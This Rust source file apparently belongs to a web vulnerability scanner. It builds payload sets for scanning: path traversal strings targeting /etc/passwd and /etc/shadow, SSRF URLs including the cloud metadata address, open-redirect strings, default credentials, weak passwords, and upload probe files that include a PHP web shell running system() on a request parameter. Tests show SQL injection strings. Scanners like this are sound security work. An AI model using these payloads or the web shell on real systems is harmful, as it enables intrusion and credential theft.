use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;
use webprobe_scanner::ConfigError;

/// Payload sets that come from outside the core (files or embedded
/// defaults). Everything else is generated below.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PayloadKind {
    Sql,
    SqlBlind,
    Xss,
    NoSql,
    NoSqlBlind,
    Rce,
}

impl PayloadKind {
    pub const ALL: [PayloadKind; 6] = [
        PayloadKind::Sql,
        PayloadKind::SqlBlind,
        PayloadKind::Xss,
        PayloadKind::NoSql,
        PayloadKind::NoSqlBlind,
        PayloadKind::Rce,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            PayloadKind::Sql => "sql",
            PayloadKind::SqlBlind => "sql_blind",
            PayloadKind::Xss => "xss",
            PayloadKind::NoSql => "nosql",
            PayloadKind::NoSqlBlind => "nosql_blind",
            PayloadKind::Rce => "rce",
        }
    }

    /// File name looked up inside a payload directory.
    pub fn file_name(&self) -> String {
        format!("{}.txt", self.as_str())
    }
}

impl fmt::Display for PayloadKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Ordered payload strings per set. The core only ever sees this, never a
/// path.
#[derive(Debug, Clone, Default)]
pub struct PayloadBook {
    sets: BTreeMap<PayloadKind, Vec<String>>,
}

impl PayloadBook {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn insert(&mut self, kind: PayloadKind, payloads: Vec<String>) {
        self.sets.insert(kind, payloads);
    }

    pub fn with(mut self, kind: PayloadKind, payloads: Vec<String>) -> Self {
        self.insert(kind, payloads);
        self
    }

    /// Insert a set from line-delimited text.
    pub fn insert_text(&mut self, kind: PayloadKind, text: &str) {
        self.insert(kind, parse_lines(text));
    }

    pub fn get(&self, kind: PayloadKind) -> Option<&[String]> {
        self.sets.get(&kind).map(Vec::as_slice)
    }

    pub fn require(&self, kind: PayloadKind) -> Result<&[String], ConfigError> {
        self.get(kind)
            .ok_or_else(|| ConfigError::MissingPayloads(kind.to_string()))
    }

    pub fn kinds(&self) -> impl Iterator<Item = PayloadKind> + '_ {
        self.sets.keys().copied()
    }

    pub fn is_empty(&self) -> bool {
        self.sets.is_empty()
    }
}

/// One payload per line. Lines are trimmed; blank and `#` lines are skipped.
pub fn parse_lines(text: &str) -> Vec<String> {
    text.lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(str::to_string)
        .collect()
}

const TRAVERSAL_TARGETS: &[&str] = &["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini"];
const TRAVERSAL_MAX_DEPTH: usize = 6;

/// `../` prefixes of depth 1 to 6 for each well-known file, in both slash
/// styles.
pub fn traversal_payloads() -> Vec<String> {
    let mut payloads = Vec::with_capacity(TRAVERSAL_TARGETS.len() * TRAVERSAL_MAX_DEPTH * 2);
    for target in TRAVERSAL_TARGETS {
        for depth in 1..=TRAVERSAL_MAX_DEPTH {
            payloads.push(format!("{}{}", "../".repeat(depth), target));
            payloads.push(format!(
                "{}{}",
                "..\\".repeat(depth),
                target.replace('/', "\\")
            ));
        }
    }
    payloads
}

pub fn ssrf_payloads() -> Vec<String> {
    [
        "http://127.0.0.1:80",
        "http://127.0.0.1:8080",
        "http://localhost:8000",
        "http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd",
        "gopher://127.0.0.1:11211",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

pub fn redirect_payloads() -> Vec<String> {
    [
        "http://evil.com",
        "https://evil.com",
        "//evil.com",
        "//google.com/%2f%2fevil.com",
        "///example.org",
        "////attacker.com",
        "\\\\evil.com",
        "javascript://%0aalert(1)",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// Well-known (username, password) pairs.
pub fn default_credentials() -> Vec<(String, String)> {
    [
        ("admin", "admin"),
        ("root", "root"),
        ("test", "test"),
        ("user", "user"),
        ("admin", "1234"),
    ]
    .iter()
    .map(|(u, p)| (u.to_string(), p.to_string()))
    .collect()
}

pub fn weak_passwords() -> Vec<String> {
    [
        "admin", "password", "123456", "qwerty", "111111", "12345678", "abc123", "user", "1234",
        "pass",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// In-memory probe files for upload checks: (filename, content).
pub fn upload_files() -> Vec<(String, String)> {
    [
        ("shell.php", "<?php echo 'PHP SHELL'; system($_GET['cmd']); ?>"),
        ("shell.jsp", "<% out.println(\"JSP SHELL\"); %>"),
        ("shell.phtml", "<?php echo 'PHTML SHELL'; ?>"),
    ]
    .iter()
    .map(|(name, content)| (name.to_string(), content.to_string()))
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_lines_skips_comments_and_blanks() {
        let text = "# header\n\n  ' OR '1'='1  \n#another\n\" OR \"1\"=\"1\n   \n";
        assert_eq!(
            parse_lines(text),
            vec!["' OR '1'='1".to_string(), "\" OR \"1\"=\"1".to_string()]
        );
    }

    #[test]
    fn test_missing_set_is_config_error() {
        let book = PayloadBook::new().with(PayloadKind::Sql, vec!["'".to_string()]);
        assert_eq!(book.require(PayloadKind::Sql).unwrap().len(), 1);
        let err = book.require(PayloadKind::Xss).unwrap_err();
        assert!(matches!(err, ConfigError::MissingPayloads(ref name) if name == "xss"));
    }

    #[test]
    fn test_traversal_payloads_cover_both_styles() {
        let payloads = traversal_payloads();
        assert_eq!(payloads.len(), 4 * 6 * 2);
        assert_eq!(payloads[0], "../etc/passwd");
        assert_eq!(payloads[1], "..\\etc\\passwd");
        assert!(payloads.contains(&"../../../../../../boot.ini".to_string()));
        assert!(payloads.contains(&"..\\..\\windows\\win.ini".to_string()));
    }

    #[test]
    fn test_file_names() {
        assert_eq!(PayloadKind::NoSqlBlind.file_name(), "nosql_blind.txt");
    }
}
